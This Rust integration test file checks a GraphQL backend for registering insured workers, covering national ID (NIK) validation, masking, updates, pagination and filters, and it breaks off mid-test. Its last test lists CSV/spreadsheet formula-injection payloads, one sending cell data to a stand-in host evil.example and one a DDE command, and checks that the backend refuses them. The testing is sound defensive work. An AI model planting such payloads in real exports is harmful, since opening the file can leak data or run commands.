//! Workers: registration from the NIK, validation that writes nothing, duplicates, NIK masking,
//! lookups, updates, the keyset connection with its filters, and batched loading of relations.
use crate::common;

use std::collections::HashSet;

use common::{TestApp, data, error_code, error_field};
use jaminan::auth::{self, Role};
use serde_json::{Value, json};

const REGISTER: &str = "mutation($input: RegisterWorkerInput!) { registerWorker(input: $input) {
    id nik fullName gender birthDate occupation regency { code } district { code name } status diedOn
    membershipNumber registeredAt coverages { id } } }";

const UPDATE: &str = "mutation($id: ID!, $input: UpdateWorkerInput!) { updateWorker(id: $id, input: $input) {
    id fullName occupation regency { code } district { code } membershipNumber } }";

const PAGE: &str =
    "query($first: Int, $after: String, $last: Int, $before: String, $order: WorkerOrder, $filter: WorkerFilter) {
    workers(first: $first, after: $after, last: $last, before: $before, orderBy: $order, filter: $filter) {
        edges { cursor node { id fullName } }
        pageInfo { hasNextPage hasPreviousPage startCursor endCursor }
        totalCount } }";

/// A man born 15 May 1985, first registered in 36.03.12.
fn male_nik(serial: u32) -> String {
    format!("360312150585{serial:04}")
}

/// A woman born 15 May 2001 (day 15 + 40 = 55).
fn female_nik(serial: u32) -> String {
    format!("360312550501{serial:04}")
}

fn input(nik: &str, name: &str) -> Value {
    json!({ "nik": nik, "fullName": name, "occupation": "FISHER", "regencyCode": "36.03" })
}

async fn register(app: &TestApp, input: Value) -> Value {
    app.gql_as(&app.admin, REGISTER, json!({ "input": input })).await
}

async fn update(app: &TestApp, id: &str, input: Value) -> Value {
    app.gql_as(&app.admin, UPDATE, json!({ "id": id, "input": input })).await
}

async fn worker_row(app: &TestApp, id: &str) -> Value {
    let response = app
        .gql_as(
            &app.admin,
            "query($id: ID!) { worker(id: $id) { id nik fullName occupation regency { code } district { code } membershipNumber } }",
            json!({ "id": id }),
        )
        .await;
    data(&response)["worker"].clone()
}

/// One page of the connection as (names, pageInfo, totalCount).
async fn page(app: &TestApp, variables: Value) -> (Vec<String>, Vec<String>, Value, i64) {
    let response = app.gql_as(&app.admin, PAGE, variables).await;
    let connection = data(&response)["workers"].clone();
    let edges = connection["edges"].as_array().unwrap();
    let names = edges.iter().map(|e| e["node"]["fullName"].as_str().unwrap().to_owned()).collect();
    let ids = edges.iter().map(|e| e["node"]["id"].as_str().unwrap().to_owned()).collect();
    (names, ids, connection["pageInfo"].clone(), connection["totalCount"].as_i64().unwrap())
}

async fn total(app: &TestApp, filter: Value) -> i64 {
    let response = app
        .gql_as(&app.admin, "query($f: WorkerFilter) { workers(filter: $f) { totalCount } }", json!({ "f": filter }))
        .await;
    data(&response)["workers"]["totalCount"].as_i64().unwrap()
}

backend_test!(registration_derives_gender_and_birth_date_from_the_nik, |app: TestApp| async move {
    let mut man = input(&male_nik(1), "  Budi Santoso  ");
    man["districtCode"] = json!("36.03.01");
    man["membershipNumber"] = json!("12345678901");
    let response = register(&app, man).await;
    let w = &data(&response)["registerWorker"];
    assert!(w["id"].as_str().unwrap().parse::<i64>().is_ok());
    assert_eq!(w["nik"], male_nik(1), "an admin sees the whole NIK");
    assert_eq!(w["fullName"], "Budi Santoso", "names are trimmed");
    assert_eq!(w["gender"], "MALE");
    assert_eq!(w["birthDate"], "1985-05-15");
    assert_eq!(w["occupation"], "FISHER");
    assert_eq!(w["regency"]["code"], "36.03");
    assert_eq!(w["district"], json!({ "code": "36.03.01", "name": "Balaraja" }));
    assert_eq!(w["status"], "ALIVE");
    assert!(w["diedOn"].is_null());
    assert_eq!(w["membershipNumber"], "12345678901");
    assert_eq!(w["coverages"], json!([]));
    let registered_at = chrono::DateTime::parse_from_rfc3339(w["registeredAt"].as_str().unwrap()).unwrap();
    assert!((chrono::Utc::now() - registered_at.with_timezone(&chrono::Utc)).num_seconds().abs() < 60);

    // Day + 40 is a woman; the century is the latest that is not in the future (2001, not 1901).
    let response = register(&app, input(&female_nik(2), "Siti Aminah")).await;
    let w = &data(&response)["registerWorker"];
    assert_eq!((w["gender"].as_str(), w["birthDate"].as_str()), (Some("FEMALE"), Some("2001-05-15")));
    assert!(w["district"].is_null());
    // A birth year after this year's two digits is in the previous century.
    let response = register(&app, input("3603120101990003", "Old Man")).await;
    assert_eq!(data(&response)["registerWorker"]["birthDate"], "1999-01-01");
    // Given gender and birth date are accepted when they agree with the NIK.
    let mut agreeing = input(&female_nik(4), "Dewi");
    agreeing["gender"] = json!("FEMALE");
    agreeing["birthDate"] = json!("2001-05-15");
    data(&register(&app, agreeing).await);
    assert_eq!(app.count_rows("worker").await, 4);
    assert_eq!(app.count_rows("audit_log").await, 4, "one audit entry per registration");
});

backend_test!(invalid_registrations_name_the_field_and_write_nothing, |app: TestApp| async move {
    let with = |key: &str, value: Value| {
        let mut input = input(&male_nik(1), "Budi");
        input[key] = value;
        input
    };
    let cases = [
        (with("nik", json!("360312150585001")), "nik", "15 digits"),
        (with("nik", json!("36031215058500012")), "nik", "17 digits"),
        (with("nik", json!("36031215O5850001")), "nik", "a letter"),
        (with("nik", json!("3603121505850000")), "nik", "serial 0000"),
        (with("nik", json!("9903121505850001")), "nik", "unknown province 99"),
        (with("nik", json!("3603123102990001")), "nik", "31 February"),
        (with("nik", json!("3603123205850001")), "nik", "day 32"),
        (with("nik", json!("3603127205850001")), "nik", "day 32 + 40"),
        (with("nik", json!("3603121513850001")), "nik", "month 13"),
        (with("gender", json!("FEMALE")), "gender", "gender disagrees"),
        (with("birthDate", json!("1985-05-16")), "birthDate", "birth date disagrees"),
        (with("regencyCode", json!("36.26")), "regencyCode", "unknown regency"),
        (with("regencyCode", json!("36")), "regencyCode", "a province is no regency"),
        (with("districtCode", json!("36.03.21")), "districtCode", "unknown district"),
        (with("districtCode", json!("36.71.01")), "districtCode", "district of another regency"),
        (with("fullName", json!("")), "fullName", "empty name"),
        (with("fullName", json!("  \t ")), "fullName", "blank name"),
        (with("membershipNumber", json!("KPJ-1")), "membershipNumber", "membership number with letters"),
    ];
    for (input, field, case) in cases {
        let response = register(&app, input).await;
        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", field), "{case}: {response}");
        assert!(response["data"].is_null() || response["data"]["registerWorker"].is_null(), "{case}");
        assert_eq!(app.count_rows("worker").await, 0, "{case}");
        assert_eq!(app.count_rows("audit_log").await, 0, "{case}");
    }
    // A valid NIK never appears in an error message.
    let response = register(&app, with("gender", json!("FEMALE"))).await;
    assert!(!response.to_string().contains(&male_nik(1)), "{response}");
});

backend_test!(a_nik_registers_once, |app: TestApp| async move {
    data(&register(&app, input(&male_nik(1), "Budi")).await);
    // Same NIK, even with other details or surrounding spaces: CONFLICT, no second row.
    let mut again = input(&format!(" {} ", male_nik(1)), "Budi Lain");
    again["regencyCode"] = json!("36.71");
    let response = register(&app, again).await;
    assert_eq!(error_code(&response), "CONFLICT");
    assert!(!response.to_string().contains(&male_nik(1)), "the NIK is not repeated: {response}");
    assert_eq!(app.count_rows("worker").await, 1);
    assert_eq!(app.count_rows("audit_log").await, 1);
    // A membership number is unique too.
    let mut first = input(&male_nik(2), "Ani");
    first["membershipNumber"] = json!("777");
    data(&register(&app, first).await);
    let mut second = input(&male_nik(3), "Ana");
    second["membershipNumber"] = json!("777");
    assert_eq!(error_code(&register(&app, second).await), "CONFLICT");
    assert_eq!(app.count_rows("worker").await, 2);
});

backend_test!(writes_need_a_valid_key, |app: TestApp| async move {
    let variables = json!({ "input": input(&male_nik(1), "Budi") });
    let response = app.gql(REGISTER, variables.clone()).await;
    assert_eq!(error_code(&response), "UNAUTHENTICATED");
    // An unknown key fails the whole request with HTTP 401.
    let body = json!({ "query": REGISTER, "variables": variables }).to_string();
    let (status, response) = app.post_json(Some("jmn_bogus"), &body).await;
    assert_eq!(status, axum::http::StatusCode::UNAUTHORIZED);
    assert_eq!(error_code(&response), "UNAUTHENTICATED");
    let (status, response) = app.post_json(Some(&format!("{}x", app.admin)), &body).await;
    assert_eq!((status.as_u16(), error_code(&response)), (401, "UNAUTHENTICATED"));
    assert_eq!(app.count_rows("worker").await, 0);
    assert_eq!(app.count_rows("audit_log").await, 0);
    // Anonymous callers read no workers either.
    let response = app.gql("{ workers { totalCount } }", json!({})).await;
    assert_eq!(error_code(&response), "UNAUTHENTICATED");
    let response = app.gql(r#"{ workerByNik(nik: "3603121505850001") { id } }"#, json!({})).await;
    assert_eq!(error_code(&response), "UNAUTHENTICATED");
});

backend_test!(niks_are_masked_for_callers_without_the_right, |app: TestApp| async move {
    let id = app.register(&male_nik(1), "Budi", "36.03", None, "FISHER").await;
    let query = "query($id: ID!) { worker(id: $id) { nik } workers { nodes { nik } edges { node { nik } } } }";
    let (viewer, _) = auth::keys::create_key(&app.state.db, "viewer", Role::Viewer, None).await.unwrap();
    let response = app.gql_as(&viewer, query, json!({ "id": id })).await;
    let d = data(&response);
    assert_eq!(d["worker"]["nik"], "360312******0001");
    assert_eq!(d["workers"]["nodes"][0]["nik"], "360312******0001");
    assert_eq!(d["workers"]["edges"][0]["node"]["nik"], "360312******0001");
    assert!(!response.to_string().contains(&male_nik(1)));
    // The birth date would give back the masked digits (DDMMYY): refused with them.
    let birth_date = "query($id: ID!) { worker(id: $id) { birthDate } }";
    let response = app.gql_as(&viewer, birth_date, json!({ "id": id })).await;
    assert_eq!(error_code(&response), "FORBIDDEN", "{response}");
    assert!(!response.to_string().contains("1985-05-15"));
    for (key, expected) in [(&app.admin, male_nik(1)), (&viewer, "360312******0001".to_owned())] {
        let response = app.gql_as(key, query, json!({ "id": id })).await;
        assert_eq!(data(&response)["worker"]["nik"], expected.as_str());
    }
    let (operator, _) = auth::keys::create_key(&app.state.db, "operator", Role::Operator, None).await.unwrap();
    let response = app.gql_as(&operator, query, json!({ "id": id })).await;
    assert_eq!(data(&response)["worker"]["nik"], male_nik(1));
    let response = app.gql_as(&operator, birth_date, json!({ "id": id })).await;
    assert_eq!(data(&response)["worker"]["birthDate"], "1985-05-15");
    // The anonymous caller gets no worker at all (not even masked).
    let response = app.gql(query, json!({ "id": id })).await;
    assert_eq!(error_code(&response), "UNAUTHENTICATED");
    assert!(!response.to_string().contains("360312"));
});

backend_test!(workers_are_found_by_id_and_nik, |app: TestApp| async move {
    let id = app.register(&male_nik(1), "Budi", "36.03", Some("36.03.02"), "FARMER").await;
    let response = app
        .gql_as(
            &app.admin,
            r#"query($id: ID!, $nik: String!) {
                byId: worker(id: $id) { id fullName district { code } }
                byNik: workerByNik(nik: $nik) { id nik }
                missing: worker(id: "999999") { id }
                missingNik: workerByNik(nik: "3603121505850099") { id } }"#,
            json!({ "id": id, "nik": male_nik(1) }),
        )
        .await;
    let d = data(&response);
    assert_eq!(d["byId"]["id"], id.as_str());
    assert_eq!(d["byId"]["fullName"], "Budi");
    assert_eq!(d["byId"]["district"]["code"], "36.03.02");
    assert_eq!(d["byNik"]["id"], id.as_str());
    assert!(d["missing"].is_null() && d["missingNik"].is_null());
    let response = app.gql_as(&app.admin, r#"{ workerByNik(nik: "360312") { id } }"#, json!({})).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "nik"));
    let response = app.gql_as(&app.admin, r#"{ worker(id: "abc") { id } }"#, json!({})).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "id"));
});

backend_test!(updates_change_the_given_fields_only, |app: TestApp| async move {
    let id = app.register(&male_nik(1), "Budi", "36.03", Some("36.03.01"), "FISHER").await;
    let other = app.register(&male_nik(2), "Ani", "36.03", None, "FISHER").await;
    let audit = app.count_rows("audit_log").await;

    let response = update(&app, &id, json!({ "fullName": " Budi Santoso ", "occupation": "STREET_VENDOR" })).await;
    let w = &data(&response)["updateWorker"];
    assert_eq!((w["fullName"].as_str(), w["occupation"].as_str()), (Some("Budi Santoso"), Some("STREET_VENDOR")));
    assert_eq!(w["district"]["code"], "36.03.01", "untouched fields stay");
    assert_eq!(app.count_rows("audit_log").await, audit + 1);

    // A district of the same regency.
    let response = update(&app, &id, json!({ "districtCode": "36.03.03" })).await;
    assert_eq!(data(&response)["updateWorker"]["district"]["code"], "36.03.03");
    // Moving to another regency without a district clears the district.
    let response = update(&app, &id, json!({ "regencyCode": "36.71" })).await;
    let w = &data(&response)["updateWorker"];
    assert_eq!(w["regency"]["code"], "36.71");
    assert!(w["district"].is_null());
    // Moving with a district of the new regency.
    let response = update(&app, &id, json!({ "regencyCode": "36.03", "districtCode": "36.03.02" })).await;
    let w = &data(&response)["updateWorker"];
    assert_eq!((w["regency"]["code"].as_str(), w["district"]["code"].as_str()), (Some("36.03"), Some("36.03.02")));
    // Naming the current regency again keeps the district.
    let response = update(&app, &id, json!({ "regencyCode": "36.03" })).await;
    assert_eq!(data(&response)["updateWorker"]["district"]["code"], "36.03.02");
    let response = update(&app, &id, json!({ "membershipNumber": "555" })).await;
    assert_eq!(data(&response)["updateWorker"]["membershipNumber"], "555");
    assert_eq!(app.count_rows("audit_log").await, audit + 6);
    // The NIK, gender and birth date are not updatable: they come from the NIK.
    let response = update(&app, &id, json!({ "nik": male_nik(9) })).await;
    assert_eq!(error_code(&response), "BAD_USER_INPUT");
    assert_eq!(worker_row(&app, &id).await["nik"], male_nik(1));

    // Invalid updates change nothing and audit nothing.
    let before = worker_row(&app, &id).await;
    let audit = app.count_rows("audit_log").await;
    let failures = [
        (json!({ "fullName": "  " }), "BAD_USER_INPUT", Some("fullName")),
        (json!({ "fullName": "Changed", "districtCode": "36.71.01" }), "BAD_USER_INPUT", Some("districtCode")),
        (json!({ "occupation": "FARMER", "regencyCode": "99.99" }), "BAD_USER_INPUT", Some("regencyCode")),
        (json!({ "districtCode": "36.03.99" }), "BAD_USER_INPUT", Some("districtCode")),
        (json!({ "regencyCode": "36.71", "districtCode": "36.03.01" }), "BAD_USER_INPUT", Some("districtCode")),
        (json!({ "fullName": "Changed", "membershipNumber": "12a" }), "BAD_USER_INPUT", Some("membershipNumber")),
    ];
    for (input, code, field) in failures {
        let response = update(&app, &id, input.clone()).await;
        assert_eq!(error_code(&response), code, "{input}");
        if let Some(field) = field {
            assert_eq!(error_field(&response), field, "{input}");
        }
        assert_eq!(worker_row(&app, &id).await, before, "{input}");
    }
    // Another worker's membership number: CONFLICT, nothing changes.
    data(&update(&app, &other, json!({ "membershipNumber": "777" })).await);
    let audit = audit + 1;
    let response = update(&app, &id, json!({ "fullName": "Changed", "membershipNumber": "777" })).await;
    assert_eq!(error_code(&response), "CONFLICT");
    assert_eq!(worker_row(&app, &id).await, before);
    // Keeping one's own number is no conflict.
    data(&update(&app, &id, json!({ "membershipNumber": "555" })).await);
    let audit = audit + 1;
    assert_eq!(app.count_rows("audit_log").await, audit);
    // Unknown worker: NOT_FOUND.
    let response = update(&app, "999999", json!({ "fullName": "Nobody" })).await;
    assert_eq!(error_code(&response), "NOT_FOUND");
    let response = app.gql(UPDATE, json!({ "id": id, "input": { "fullName": "Anon" } })).await;
    assert_eq!(error_code(&response), "UNAUTHENTICATED");
    assert_eq!(app.count_rows("audit_log").await, audit);
    assert_eq!(worker_row(&app, &id).await["fullName"], "Budi Santoso");
});

/// Registers `n` workers named "Worker 01".. in a shuffled order (so that NAME order differs from
/// registration order) and returns their ids in registration order with their names.
async fn many_workers(app: &TestApp, n: u32) -> Vec<(String, String)> {
    let mut out = vec![];
    for i in 0..n {
        // A fixed permutation of 1..=n: 7 is coprime with the sizes used.
        let k = (i * 7) % n + 1;
        let name = format!("Worker {k:03}");
        let id = app.register(&male_nik(k), &name, "36.03", None, "FISHER").await;
        out.push((id, name));
    }
    out
}

backend_test!(workers_page_forward_and_backward_in_both_orders, |app: TestApp| async move {
    let registered = many_workers(&app, 25).await;
    let mut by_name: Vec<String> = registered.iter().map(|(_, n)| n.clone()).collect();
    by_name.sort();
    let by_time: Vec<String> = registered.iter().map(|(_, n)| n.clone()).collect();

    for (order, expected) in [
        (json!({ "field": "NAME", "direction": "ASC" }), by_name.clone()),
        (json!({ "field": "NAME", "direction": "DESC" }), by_name.iter().rev().cloned().collect()),
        (json!({ "field": "REGISTERED_AT", "direction": "ASC" }), by_time.clone()),
        (json!({ "field": "REGISTERED_AT", "direction": "DESC" }), by_time.iter().rev().cloned().collect()),
    ] {
        // Forward through pages of 10: 10 + 10 + 5.
        let mut seen = vec![];
        let mut after: Option<String> = None;
        let mut pages = 0;
        loop {
            let (names, _, info, count) = page(&app, json!({ "first": 10, "after": after, "order": order })).await;
            assert_eq!(count, 25);
            assert_eq!(info["hasPreviousPage"], after.is_some(), "{order}");
            seen.extend(names);
            pages += 1;
            if info["hasNextPage"] == false {
                break;
            }
            after = Some(info["endCursor"].as_str().unwrap().to_owned());
            assert!(pages < 10, "paging does not end");
        }
        assert_eq!(pages, 3, "{order}");
        assert_eq!(seen, expected, "{order}: forward pages are the whole ordered list, once each");

        // Backward from the end with last/before: 5 + 10 + 10.
        let mut seen_back: Vec<Vec<String>> = vec![];
        let mut before: Option<String> = None;
        loop {
            let (names, _, info, _) = page(&app, json!({ "last": 10, "before": before, "order": order })).await;
            assert_eq!(info["hasNextPage"], before.is_some(), "{order}");
            seen_back.push(names);
            if info["hasPreviousPage"] == false {
                break;
            }
            before = Some(info["startCursor"].as_str().unwrap().to_owned());
            assert!(seen_back.len() < 10, "paging does not end");
        }
        assert_eq!(seen_back.iter().map(Vec::len).collect::<Vec<_>>(), [10, 10, 5], "{order}");
        let back: Vec<String> = seen_back.into_iter().rev().flatten().collect();
        assert_eq!(back, expected, "{order}: backward pages are the same list");

        // A page in the middle both ways: after the 5th and before the 11th = rows 6..10.
        let (_, _, first5, _) = page(&app, json!({ "first": 5, "order": order })).await;
        let (_, _, first10, _) = page(&app, json!({ "first": 11, "order": order })).await;
        let (names, _, info, _) = page(
            &app,
            json!({ "first": 20, "after": first5["endCursor"], "before": first10["endCursor"], "order": order }),
        )
        .await;
        assert_eq!(names, expected[5..10].to_vec(), "{order}");
        assert_eq!(info["hasPreviousPage"], true);
    }

    // Default order is by name, 20 per page.
    let (names, ids, info, _) = page(&app, json!({})).await;
    assert_eq!(names, by_name[..20].to_vec());
    assert_eq!(ids.iter().collect::<HashSet<_>>().len(), 20);
    assert_eq!((info["hasNextPage"].as_bool(), info["hasPreviousPage"].as_bool()), (Some(true), Some(false)));
    // first: 0 returns no rows but the count.
    let (names, _, _, count) = page(&app, json!({ "first": 0 })).await;
    assert_eq!((names.len(), count), (0, 25));
    // first: 100 is allowed; one more is not.
    let (names, _, info, _) = page(&app, json!({ "first": 100 })).await;
    assert_eq!((names.len(), info["hasNextPage"].as_bool()), (25, Some(false)));
    for variables in [json!({ "first": 101 }), json!({ "last": 101 }), json!({ "first": -1 })] {
        let response = app.gql_as(&app.admin, PAGE, variables.clone()).await;
        assert_eq!(error_code(&response), "BAD_USER_INPUT", "{variables}");
    }
    let response = app.gql_as(&app.admin, PAGE, json!({ "first": 1, "last": 1 })).await;
    assert_eq!(error_code(&response), "BAD_USER_INPUT");
    // Cursors: garbage, and a cursor of another ordering.
    for cursor in ["garbage", "eyJvIjoiTkFNRV9BU0MifQ", ""] {
        let response = app.gql_as(&app.admin, PAGE, json!({ "first": 5, "after": cursor })).await;
        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "after"), "{cursor}");
        let response = app.gql_as(&app.admin, PAGE, json!({ "last": 5, "before": cursor })).await;
        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "before"), "{cursor}");
    }
    let (_, _, info, _) = page(&app, json!({ "first": 5 })).await;
    let response = app
        .gql_as(
            &app.admin,
            PAGE,
            json!({ "first": 5, "after": info["endCursor"], "order": { "field": "REGISTERED_AT", "direction": "ASC" } }),
        )
        .await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "after"));
});

backend_test!(names_that_tie_page_by_id, |app: TestApp| async move {
    // Twelve workers with the same name: the id breaks the tie, no row is lost or repeated.
    let mut ids = HashSet::new();
    for i in 1..=12 {
        ids.insert(app.register(&male_nik(i), "Siti", "36.03", None, "FISHER").await);
    }
    let mut seen = vec![];
    let mut after: Option<String> = None;
    loop {
        let (_, page_ids, info, _) = page(&app, json!({ "first": 5, "after": after })).await;
        seen.extend(page_ids);
        if info["hasNextPage"] == false {
            break;
        }
        after = Some(info["endCursor"].as_str().unwrap().to_owned());
    }
    assert_eq!(seen.len(), 12);
    assert_eq!(seen.iter().cloned().collect::<HashSet<_>>(), ids);
    let numeric: Vec<i64> = seen.iter().map(|s| s.parse().unwrap()).collect();
    assert!(numeric.windows(2).all(|w| w[0] < w[1]), "ties are ordered by id");
});

backend_test!(filters_narrow_the_page_and_the_count, |app: TestApp| async move {
    let budi = app.register(&male_nik(1), "Budi Santoso", "36.03", Some("36.03.01"), "FISHER").await;
    let siti = app.register(&female_nik(2), "Siti Aminah", "36.03", Some("36.03.02"), "STREET_VENDOR").await;
    let agus = app.register(&male_nik(3), "Agus Budiman", "36.71", None, "FISHER").await;
    let dewi = app.register(&female_nik(4), "Dewi", "36.71", Some("36.71.01"), "FARMER").await;
    // Coverage: Budi in 2022-2023, Siti from 2023 open-ended, Agus covered by another regency in 2021.
    app.enroll(&budi, "36.03", "2022-03-01", Some("2023-02-28")).await;
    app.enroll(&siti, "36.03", "2023-07-01", None).await;
    app.enroll(&agus, "36.03", "2021-01-01", Some("2021-12-31")).await;
    let response = app
        .gql_as(
            &app.admin,
            "mutation($w: ID!) { recordDeath(workerId: $w, diedOn: \"2024-05-01\") { id } }",
            json!({ "w": dewi }),
        )
        .await;
    data(&response);

    assert_eq!(total(&app, json!(null)).await, 4);
    assert_eq!(total(&app, json!({ "regencyCode": "36.03" })).await, 2);
    assert_eq!(total(&app, json!({ "regencyCode": "36.71" })).await, 2);
    assert_eq!(total(&app, json!({ "districtCode": "36.03.02" })).await, 1);
    assert_eq!(total(&app, json!({ "occupation": "FISHER" })).await, 2);
    assert_eq!(total(&app, json!({ "occupation": "FISHER", "regencyCode": "36.71" })).await, 1);
    assert_eq!(total(&app, json!({ "gender": "FEMALE" })).await, 2);
    assert_eq!(total(&app, json!({ "status": "DECEASED" })).await, 1);
    assert_eq!(total(&app, json!({ "status": "ALIVE" })).await, 3);
    assert_eq!(total(&app, json!({ "coveredInYear": 2020 })).await, 0);
    assert_eq!(total(&app, json!({ "coveredInYear": 2021 })).await, 1);
    assert_eq!(total(&app, json!({ "coveredInYear": 2022 })).await, 1);
    assert_eq!(total(&app, json!({ "coveredInYear": 2023 })).await, 2, "Budi until February, Siti from July");
    assert_eq!(total(&app, json!({ "coveredInYear": 2030 })).await, 1, "open-ended coverage");
    assert_eq!(total(&app, json!({ "coveredInYear": 2023, "regencyCode": "36.71" })).await, 0);
    // Search: a case-insensitive name substring, or an exact NIK.
    assert_eq!(total(&app, json!({ "search": "budi" })).await, 2, "Budi Santoso and Agus Budiman");
    assert_eq!(total(&app, json!({ "search": "  SITI  " })).await, 1);
    assert_eq!(total(&app, json!({ "search": "%" })).await, 0, "wildcards are literal");
    assert_eq!(total(&app, json!({ "search": "" })).await, 4, "an empty search is no filter");
    assert_eq!(total(&app, json!({ "search": female_nik(2) })).await, 1);
    assert_eq!(total(&app, json!({ "search": male_nik(9) })).await, 0);
    // A NIK prefix is not a NIK search: it is taken as a name substring and finds nobody.
    assert_eq!(total(&app, json!({ "search": "360312" })).await, 0);

    // The page holds the same rows as the count.
    let (names, _, _, count) = page(&app, json!({ "filter": { "search": "budi" } })).await;
    assert_eq!((names, count), (vec!["Agus Budiman".to_owned(), "Budi Santoso".to_owned()], 2));
    let (names, _, _, count) = page(&app, json!({ "filter": { "coveredInYear": 2023 }, "first": 1 })).await;
    assert_eq!((names, count), (vec!["Budi Santoso".to_owned()], 2));
    // The regency's own connection lists domicile workers.
    let response = app
        .gql_as(&app.admin, r#"{ regency(code: "36.71") { workers { totalCount nodes { fullName } } } }"#, json!({}))
        .await;
    let workers = &data(&response)["regency"]["workers"];
    assert_eq!(workers["totalCount"], 2);
    assert_eq!(workers["nodes"], json!([{ "fullName": "Agus Budiman" }, { "fullName": "Dewi" }]));
    // A bad year in the filter is BAD_USER_INPUT.
    let response =
        app.gql_as(&app.admin, "{ workers(filter: { coveredInYear: 1800 }) { totalCount } }", json!({})).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "coveredInYear"));
});

backend_test!(relations_of_a_page_are_loaded_in_batches, |app: TestApp| async move {
    let districts = ["36.03.01", "36.03.02", "36.03.03"];
    for i in 1..=100u32 {
        let district = districts[i as usize % 3];
        let id = app.register(&male_nik(i), &format!("Worker {i:03}"), "36.03", Some(district), "FISHER").await;
        if i % 2 == 0 {
            app.enroll(&id, "36.03", "2023-01-01", None).await;
        }
        // Ten covered workers die and their heirs claim.
        if i % 10 == 0 {
            let claim = app
                .gql_as(
                    &app.admin,
                    "mutation($w: ID!) { submitPayout(input: { workerId: $w, benefit: DEATH, incidentOn: \"2023-08-01\",
                        beneficiaryName: \"Heir\", beneficiaryRelationship: SPOUSE }) { id } }",
                    json!({ "w": id }),
                )
                .await;
            data(&claim);
        }
    }
    // Keys re-read rarely, so that no periodic key refresh falls into the counts below.
    let app = app.with_state(jaminan::services::AppState {
        keys: std::sync::Arc::new(auth::keys::KeyCache::new(std::time::Duration::from_secs(600))),
        ..app.state.clone()
    });
    data(&app.gql_as(&app.admin, "{ provinces { code } }", json!({})).await);
    let query = r#"{ workers(first: 100) { totalCount edges { node {
        id regency { name province { name } } district { name regency { code } }
        coverages { id monthlyPremium regency { code } worker { id fullName } }
        payouts { id }
        coveredOn(date: "2023-06-20") } } } }"#;
    let before = app.query_count().await;
    let response = app.gql_as(&app.admin, query, json!({})).await;
    let statements = app.query_count().await - before;
    let edges = data(&response)["workers"]["edges"].as_array().unwrap().clone();
    assert_eq!(edges.len(), 100);
    let covered = edges.iter().filter(|e| e["node"]["coveredOn"] == true).count();
    assert_eq!(covered, 50);
    let with_coverage: Vec<_> =
        edges.iter().filter(|e| !e["node"]["coverages"].as_array().unwrap().is_empty()).collect();
    assert_eq!(with_coverage.len(), 50);
    for edge in &with_coverage {
        let coverage = &edge["node"]["coverages"][0];
        assert_eq!(coverage["worker"]["id"], edge["node"]["id"]);
        assert_eq!(coverage["monthlyPremium"], "16800");
    }
    assert!(edges.iter().all(|e| e["node"]["district"]["regency"]["code"] == "36.03"));
    // Unbatched this is 1 + 100 coverage + 100 payout + 50 worker lookups. The page reads the
    // relations its nodes select in the same statement (a LEFT JOIN on the page), and the key is
    // in memory, so it is exactly: the page with its coverages and payouts, and the count.
    assert_eq!(statements, 2, "statements for a page of 100 workers with relations");

    // One worker with its relations: one statement.
    let before = app.query_count().await;
    let nik = male_nik(10);
    let response = app
        .gql_as(
            &app.admin,
            "query($n: String!) { workerByNik(nik: $n) { fullName coverages { startsOn worker { id } } payouts { amount } } }",
            json!({ "n": nik }),
        )
        .await;
    let worker = &data(&response)["workerByNik"];
    assert_eq!((worker["coverages"].as_array().unwrap().len(), worker["payouts"].as_array().unwrap().len()), (1, 1));
    assert_eq!(app.query_count().await - before, 1, "a worker with its coverage and payouts in one statement");

    // A page of payouts: the page, then their workers and coverages in one each.
    let before = app.query_count().await;
    let response = app
        .gql_as(
            &app.admin,
            "{ payouts(first: 100) { edges { node { worker { fullName } coverage { monthlyPremium } } } } }",
            json!({}),
        )
        .await;
    let statements = app.query_count().await - before;
    let edges = data(&response)["payouts"]["edges"].as_array().unwrap().clone();
    assert_eq!(edges.len(), 10);
    assert!(edges.iter().all(|e| e["node"]["coverage"]["monthlyPremium"] == "16800"), "{edges:?}");
    assert_eq!(statements, 3, "statements for a page of 10 payouts with relations");
});

backend_test!(concurrent_registrations_of_one_nik_create_one_worker, |app: TestApp| async move {
    let tasks: Vec<_> = (0..20)
        .map(|i| {
            let app = app.clone();
            tokio::spawn(async move { register(&app, input(&male_nik(1), &format!("Budi {i}"))).await })
        })
        .collect();
    let (mut won, mut conflicts) = (0, 0);
    for task in tasks {
        let response = task.await.unwrap();
        if response.get("errors").is_none() {
            won += 1;
        } else {
            assert_eq!(error_code(&response), "CONFLICT", "{response}");
            conflicts += 1;
        }
    }
    assert_eq!((won, conflicts), (1, 19));
    assert_eq!(app.count_rows("worker").await, 1);
    assert_eq!(app.count_rows("audit_log").await, 1);
});

backend_test!(a_later_mutation_of_a_document_never_reads_rows_cached_before_it, |app: TestApp| async move {
    let w = app.register(&male_nik(1), "Budi", "36.03", None, "FISHER").await;
    app.enroll(&w, "36.03", "2023-01-01", None).await;
    let response = app
        .gql_as(
            &app.admin,
            r#"mutation($w: ID!) {
                a: updateWorker(id: $w, input: { fullName: "Budi A" }) { coverages { worker { fullName } } }
                b: updateWorker(id: $w, input: { fullName: "Budi B" }) { coverages { worker { fullName } } } }"#,
            json!({ "w": w }),
        )
        .await;
    assert_eq!(data(&response)["a"]["coverages"][0]["worker"]["fullName"], "Budi A");
    assert_eq!(data(&response)["b"]["coverages"][0]["worker"]["fullName"], "Budi B");
});

/// What issue 21 (item 6) found accepted: formulas a spreadsheet runs when an export is opened.
const FORMULA_NAMES: [&str; 3] =
    [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)"];

backend_test!(names_that_start_like_a_formula_are_refused, |app: TestApp| async move {
    let budi =
        data(&register(&app, input(&male_nik(1), "Budi")).await)["registerWorker"]["id"].as_str().unwrap().to_owned();
    let audit = app.count_rows("audit_log").await;
    for (n, name) in FORMULA_NAMES.into_iter().flat_map(|name| [name.to_owned(), format!("  {name}")]).enumerate() {
        let response = register(&app, input(&male_nik(2 + n as u32), &name)).await;
        assert_eq!(
            (error_code(&response), error_field(&response)),
            ("BAD_USER_INPUT", "fullName"),
            "{name}: {response}"
        );
        let response = update(&app, &budi, json!({ "fullName": name })).await;
        assert_eq!(
